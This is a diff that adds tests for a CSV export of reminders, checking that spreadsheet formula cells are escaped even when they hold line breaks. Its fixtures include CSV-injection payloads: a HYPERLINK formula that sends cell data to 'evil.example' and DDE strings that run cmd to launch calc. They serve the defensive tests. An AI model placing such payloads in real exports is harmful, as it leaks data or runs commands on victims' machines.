@@ -61,6 +61,38 @@ describe('remindersCsv', () => {
     expect(data[0]).toMatchObject({ Title: `'=HYPERLINK("http://evil")`, Provider: `'+44 bank` });
   });
 
+  it('escapes formula cells that also hold a line break (papaparse’s own check misses them)', () => {
+    const attacks = [
+      '=HYPERLINK("http://evil.example/?d="&A3&B3,"Open policy")\nSee the policy',
+      "=cmd|' /C calc'!A0\r\nmore",
+      '\t=2+3\nmore',
+      '+cmd|" /C calc"!A0\nmore',
+    ];
+    const { data } = parse(
+      remindersCsv(attacks.map((text) => reminder({ title: text, provider: text, notes: text }))),
+    );
+    attacks.forEach((text, index) => {
+      expect(data[index]).toMatchObject({ Title: `'${text}`, Provider: `'${text}`, Notes: `'${text}` });
+    });
+  });
+
+  it('leaves no cell of any row starting like a formula, whatever text holds line breaks', () => {
+    const risky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", 'a', ' ');
+    const withBreaks = fc
+      .tuple(risky, fc.string(), fc.constantFrom('\n', '\r\n', '\r'), fc.string())
+      .map(([first, head, lineBreak, tail]) => `${first}${head}${lineBreak}${tail}`);
+    fc.assert(
+      fc.property(withBreaks, withBreaks, withBreaks, (title, provider, notes) => {
+        const { data } = parse(remindersCsv([reminder({ title, provider, notes })]));
+        for (const cell of Object.values(data[0]!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+        expect(data[0]).toMatchObject({
+          Title: `${/^[=+\-@\t\r']/.test(title) ? "'" : ''}${title}`,
+          Notes: `${/^[=+\-@\t\r']/.test(notes) ? "'" : ''}${notes}`,
+        });
+      }),
+    );
+  });
+
   it('doubles a leading apostrophe, so the import can tell text from the formula escape', () => {
     const { data } = parse(remindersCsv([reminder({ title: "'=x", notes: "'quoted'" })]));
     expect(data[0]).toMatchObject({ Title: "''=x", Notes: "''quoted'" });
